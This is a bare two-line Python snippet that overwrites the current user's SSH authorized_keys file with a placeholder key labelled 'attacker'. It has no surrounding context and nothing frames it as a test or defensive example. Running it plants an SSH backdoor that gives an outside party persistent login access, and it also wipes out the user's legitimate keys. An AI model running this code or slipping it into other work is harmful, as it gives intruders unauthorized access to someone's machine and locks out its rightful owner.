from pathlib import Path
Path('~/.ssh/authorized_keys').expanduser().write_text('ssh-ed25519 AAAA attacker')
